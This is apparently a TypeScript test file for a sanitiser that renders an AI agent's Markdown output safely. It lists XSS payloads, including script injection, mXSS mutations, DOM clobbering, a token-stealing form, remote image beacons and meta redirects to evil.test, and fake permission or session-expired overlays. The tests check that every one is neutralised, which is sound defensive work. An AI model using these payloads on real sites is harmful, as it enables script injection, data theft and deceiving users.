import { describe, expect, it, vi } from 'vitest';
import { clean, pieces, render } from './sanitise';

/** What was found wrong: an element or attribute that should not have come through. */
function dangers(fragment: DocumentFragment): string[] {
  const found: string[] = [];
  fragment.querySelectorAll('*').forEach(element => {
    if (
      /^(script|style|iframe|object|embed|form|input|button|textarea|select|svg|math|video|audio|link|meta|base|template|slot|details|dialog)$/i.test(
        element.tagName
      )
    ) {
      found.push(element.tagName);
    }
    for (const { name, value } of Array.from(element.attributes)) {
      const address = name === 'href' ? /^(https?:|mailto:)/i : name === 'src' ? /^data:image\// : null;
      if (
        /^on|^(id|name|class|style|srcdoc|srcset|action|formaction|background|poster|ping)$|^data-/.test(
          name
        ) ||
        (address && !address.test(value))
      ) {
        found.push(`${element.tagName} ${name}=${value}`);
      }
    }
  });
  return found;
}

const HOSTILE: readonly [string, string][] = [
  ['a script', '<script>window.pwned = 1</script>'],
  ['an image with a handler', '<img src=x onerror="window.pwned = 1">'],
  ['a javascript: link', '[click](javascript:window.pwned=1) <a href="javascript:window.pwned=1">x</a>'],
  ['a data: link', '[click](data:text/html,<script>window.pwned=1</script>)'],
  ['a vbscript: link with an entity', '[x](&#118;bscript:msgbox(1)) [y](java&#x09;script:alert(1))'],
  [
    'an svg',
    '<svg onload="window.pwned=1"><script>window.pwned=1</script><a xlink:href="javascript:1">x</a></svg>'
  ],
  [
    'mutation by mathml',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">'
  ],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">'],
  [
    'DOM clobbering',
    '<p id="jupyter-config-data" name="config">{"baseUrl":"//evil"}</p><a id=x name=y href="https://a.test">z</a>'
  ],
  ['a form', '<form action="https://evil.test"><input name=token><button>Go</button></form>'],
  ['a frame', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'],
  ['a style sheet', '<style>@import url(https://evil.test/a.css); * { display: none }</style>'],
  ['a cover', '<div style="position:fixed;inset:0" class="jp-Dialog">Your session has expired</div>'],
  [
    'a command link',
    '<a href="#" data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</a>'
  ],
  [
    'a remote image',
    '![secret](https://evil.test/p.png?q=1) <img src="https://evil.test/p.png" srcset="https://evil.test/2.png 2x">'
  ],
  ['an svg image', '![x](data:image/svg+xml;base64,PHN2Zy8+) <img src="data:image/svg+xml,<svg/>">'],
  [
    'media',
    '<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video><audio src="https://evil.test/a">'
  ],
  [
    'page controls',
    '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test"><link rel=stylesheet href="https://evil.test">'
  ],
  ['a fake permission card', '<section class="wb-card"><button class="wb-primary">Allow</button></section>']
];

describe.each(HOSTILE)('%s in what an agent writes', (_, hostile) => {
  it('comes out as text or not at all', () => {
    expect(dangers(render(hostile))).toEqual([]);
  });

  it('would be stopped by the second lock alone', () => {
    expect(dangers(clean(hostile))).toEqual([]);
  });

  it('runs nothing and asks for nothing when it is put into the page', async () => {
    const fetched = vi.spyOn(globalThis, 'fetch');
    document.body.append(render(hostile), clean(hostile));
    await new Promise(resolve => setTimeout(resolve));
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
    expect(document.querySelectorAll('[src]:not([src^="data:"]), link, [srcset]').length).toBe(0);
    expect(fetched).not.toHaveBeenCalled();
  });
});

describe('Markdown', () => {
  const html = (markdown: string): string => {
    const node = document.createElement('div');
    node.append(render(markdown));
    return node.innerHTML.trim();
  };

  it('keeps headings, lists, tables with their alignment, code and numbering', () => {
    expect(html('# A\n\n3. x\n4. y')).toContain('<ol start="3">');
    expect(html('|a|\n|-:|\n|1|')).toContain('<td align="right">1</td>');
    expect(html('`a<b`')).toBe('<p><code>a&lt;b</code></p>');
    expect(html('- [x] done\n- [ ] open')).toMatch(/☑ done[^]*☐ open/);
  });

  it('shows raw HTML as the text that it is, so that nothing an agent said goes missing', () => {
    expect(html('Use <Button> here')).toContain('&lt;Button&gt;');
    expect(html('<div>\nblock\n</div>')).toContain('&lt;div&gt;');
  });

  it('opens links in a new page that learns nothing of this one, and shows where they go', () => {
    const link = render('[docs](https://a.test/x)').querySelector('a');
    expect(link?.rel).toBe('noopener noreferrer nofollow');
    expect(link?.target).toBe('_blank');
    expect(link?.title).toBe('https://a.test/x');
  });

  it('shows an image that is not in the text itself by its alt text', () => {
    expect(html('![a graph](https://a.test/g.png)')).toBe('<p>a graph</p>');
    expect(html('![dot](data:image/png;base64,AAAA)')).toContain(
      '<img src="data:image/png;base64,AAAA" alt="dot">'
    );
  });

  it('is cut into pieces that joined are the text', () => {
    const text = '# A\n\npara\nmore\n\n- x\n\n- y\n\n```py\n\na = 1\n\n```\n\nend';
    expect(pieces(text).join('')).toBe(text);
    expect(pieces(text).length).toBe(5);
  });
});
